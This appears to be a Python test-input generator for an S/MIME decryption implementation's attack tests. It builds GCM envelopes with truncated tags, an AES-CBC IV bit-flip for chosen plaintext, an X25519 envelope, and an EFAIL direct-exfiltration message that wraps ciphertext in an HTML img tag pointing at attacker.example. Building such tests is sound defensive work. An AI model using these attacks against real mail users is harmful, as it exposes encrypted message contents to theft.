#!/usr/bin/env python3
"""decrypt-hostile.py — builds the hostile inputs of the smime-decrypt attack tests (issue 9
items 2, 9, 10, 11 and the X25519 case) from envelopes made by an independent implementation
(openssl cms, DER, definite lengths), with a small DER reader/writer of its own.

  decrypt-hostile.py short-tag IN.der OUT.der N
      an authEnveloped-data whose tag (mac) is cut to its first N octets, the GCM parameters
      left as they were (aes-ICVlen 16 in what openssl writes)
  decrypt-hostile.py icvlen IN.der OUT.der N
      the same envelope with aes-ICVlen N in the parameters and the tag cut to N octets
  decrypt-hostile.py cbc-flip IN.der OUT.der KNOWN WANT
      an AES-CBC enveloped-data whose IV is XORed so that the first plaintext block, known to
      be KNOWN (16 octets), decrypts to WANT (16 octets; \\r and \\n escapes understood)
  decrypt-hostile.py x25519 CERT.pem ENTITY OUT.der
      enveloped-data (AES-128-CBC) for an X25519 certificate: key agreement as RFC 8418
      (dhSinglePass-stdDH-sha256kdf-scheme, aes128-wrap), made with python3-cryptography
  decrypt-hostile.py efail OUTER ENVELOPE.der
      the EFAIL direct-exfiltration message (USENIX Security 2018): multipart/mixed, an HTML
      part opening <img src="http://attacker.example/?, the encrypted part, an HTML part
      closing it; OUTER gives the header fields (From, To, Subject, ...)
"""
import base64
import os
import sys


# ---- DER -------------------------------------------------------------------------------

def der_len(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def tlv(tag, content):
    return bytes([tag]) + der_len(len(content)) + content


def parse(d, off=0, end=None):
    """A list of [tag, content-or-children] for the elements in d[off:end]."""
    end = len(d) if end is None else end
    out = []
    while off < end:
        tag = d[off]
        off += 1
        n = d[off]
        off += 1
        if n == 0x80:
            sys.exit("indefinite length: give DER")
        if n & 0x80:
            k = n & 0x7F
            n = int.from_bytes(d[off:off + k], "big")
            off += k
        body = d[off:off + n]
        off += n
        out.append([tag, parse(body) if tag & 0x20 else body])
    return out


def encode(tree):
    return b"".join(tlv(t, encode(c) if t & 0x20 else c) for t, c in tree)


def oid(dotted):
    parts = [int(x) for x in dotted.split(".")]
    body = bytes([parts[0] * 40 + parts[1]])
    for p in parts[2:]:
        enc = [p & 0x7F]
        p >>= 7
        while p:
            enc.append(0x80 | (p & 0x7F))
            p >>= 7
        body += bytes(reversed(enc))
    return tlv(0x06, body)


def seq(*items):
    return tlv(0x30, b"".join(items))


def integer(n):
    b = n.to_bytes((n.bit_length() + 8) // 8 or 1, "big")
    return tlv(0x02, b)


def envelope(ci):
    """ContentInfo -> the (Auth)EnvelopedData SEQUENCE's children."""
    return ci[0][1][1][1][0][1]


def eci(env):
    return next(c for c in env if c[0] == 0x30 and c[1] and c[1][0][0] == 0x06)


# ---- the attacks ------------------------------------------------------------------------

def short_tag(src, dst, n, icv=None):
    ci = parse(open(src, "rb").read())
    env = envelope(ci)
    mac = next(c for c in env if c[0] == 0x04)
    mac[1] = mac[1][:n]
    if icv is not None:
        alg = eci(env)[1][1]			# SEQUENCE { OID, GCMParameters }
        params = alg[1][1][1]			# { aes-nonce, aes-ICVlen }
        params[:] = [params[0], [0x02, integer(icv)[2:]]]
    open(dst, "wb").write(encode(ci))


def cbc_flip(src, dst, known, want):
    known, want = unescape(known), unescape(want)
    if len(known) != 16 or len(want) != 16:
        sys.exit("KNOWN and WANT must be 16 octets")
    ci = parse(open(src, "rb").read())
    iv = eci(envelope(ci))[1][1][1][1]		# SEQUENCE { OID, IV }: the IV
    iv[1] = bytes(a ^ b ^ c for a, b, c in zip(iv[1], known, want))
    open(dst, "wb").write(encode(ci))


def unescape(s):
    return s.encode("latin-1").decode("unicode_escape").encode("latin-1")


def x25519(certfile, entityfile, dst):
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, padding
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    from cryptography.hazmat.primitives.keywrap import aes_key_wrap
    from cryptography.hazmat.primitives.kdf.x963kdf import X963KDF
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    cert = x509.load_pem_x509_certificate(open(certfile, "rb").read())
    eph = X25519PrivateKey.generate()
    z = eph.exchange(cert.public_key())
    wrap_alg = seq(oid("2.16.840.1.101.3.4.1.5"))	# aes128-wrap, no parameters
    # RFC 8418 §2: ECC-CMS-SharedInfo, the KEK length in bits in suppPubInfo
    shared = seq(wrap_alg, tlv(0xA2, tlv(0x04, (128).to_bytes(4, "big"))))
    kek = X963KDF(hashes.SHA256(), 16, shared).derive(z)
    cek, iv = os.urandom(16), os.urandom(16)
    padder = padding.PKCS7(128).padder()
    data = padder.update(open(entityfile, "rb").read()) + padder.finalize()
    enc = Cipher(algorithms.AES(cek), modes.CBC(iv)).encryptor()
    ct = enc.update(data) + enc.finalize()
    pub = eph.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    issuer = cert.issuer.public_bytes()
    rid = seq(issuer, integer(cert.serial_number))
    kari = tlv(0xA1, b"".join([
        integer(3),
        tlv(0xA0, tlv(0xA1, seq(oid("1.3.101.110")) + tlv(0x03, b"\x00" + pub))),
        seq(oid("1.3.132.1.11.1"), wrap_alg),
        seq(seq(rid, tlv(0x04, aes_key_wrap(kek, cek)))),
    ]))
    env = seq(integer(2), tlv(0x31, kari),
              seq(oid("1.2.840.113549.1.7.1"), seq(oid("2.16.840.1.101.3.4.1.2"), tlv(0x04, iv)),
                  tlv(0x80, ct)))
    open(dst, "wb").write(seq(oid("1.2.840.113549.1.7.3"), tlv(0xA0, env)))


def efail(outer, der):
    b64 = base64.encodebytes(open(der, "rb").read()).decode()
    sys.stdout.write(open(outer).read())
    sys.stdout.write(
        'MIME-Version: 1.0\n'
        'Content-Type: multipart/mixed; boundary="BOUNDARY"\n\n'
        '--BOUNDARY\n'
        'Content-Type: text/html\n\n'
        '<img src="http://attacker.example/?\n'
        '--BOUNDARY\n'
        'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n'
        'Content-Transfer-Encoding: base64\n\n'
        + b64 +
        '--BOUNDARY\n'
        'Content-Type: text/html\n\n'
        '">\n'
        '--BOUNDARY--\n')


def main():
    a = sys.argv[1:]
    if a[0] == "short-tag":
        short_tag(a[1], a[2], int(a[3]))
    elif a[0] == "icvlen":
        short_tag(a[1], a[2], int(a[3]), int(a[3]))
    elif a[0] == "cbc-flip":
        cbc_flip(a[1], a[2], a[3], a[4])
    elif a[0] == "x25519":
        x25519(a[1], a[2], a[3])
    elif a[0] == "efail":
        efail(a[1], a[2])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
